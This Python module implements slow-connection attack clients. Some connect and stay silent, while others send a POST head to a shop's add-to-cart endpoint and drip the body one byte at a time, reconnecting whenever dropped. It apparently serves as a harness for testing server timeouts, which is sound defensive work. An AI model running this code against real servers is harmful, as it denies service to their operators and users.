"""Clients that hold up a server: they connect and say nothing, or send a body drop by drop."""

import asyncio
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field

HEAD = b"POST /?wc-ajax=add_to_cart HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
DROP_SECONDS = 2


@dataclass(slots=True)
class Attack:
    """What became of the attackers' connections: how long each was held, in seconds."""

    silent: list[float] = field(default_factory=list)
    slow: list[float] = field(default_factory=list)


@asynccontextmanager
async def attack(host: str, port: int, *, silent: int, slow: int) -> AsyncIterator[Attack]:
    """Attack for as long as the block lasts. A connection that is ended is opened again at once."""
    held = Attack()
    tasks = [asyncio.create_task(_again(host, port, b"", held.silent)) for _ in range(silent)]
    tasks += [asyncio.create_task(_again(host, port, HEAD, held.slow)) for _ in range(slow)]
    try:
        await asyncio.sleep(1)
        yield held
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _again(host: str, port: int, head: bytes, held: list[float]) -> None:
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            begun = time.monotonic()
            try:
                await _hold(reader, writer, head)
                held.append(time.monotonic() - begun)
            finally:
                writer.close()
        await asyncio.sleep(0)


async def _hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head: bytes) -> None:
    """Hold a connection until the server ends it."""
    ended = asyncio.create_task(reader.read())
    try:
        writer.write(head)
        while not ended.done():
            await asyncio.wait({ended}, timeout=DROP_SECONDS)
            if head and not ended.done():
                writer.write(b"x")
        with suppress(OSError):
            await ended
    finally:
        ended.cancel()
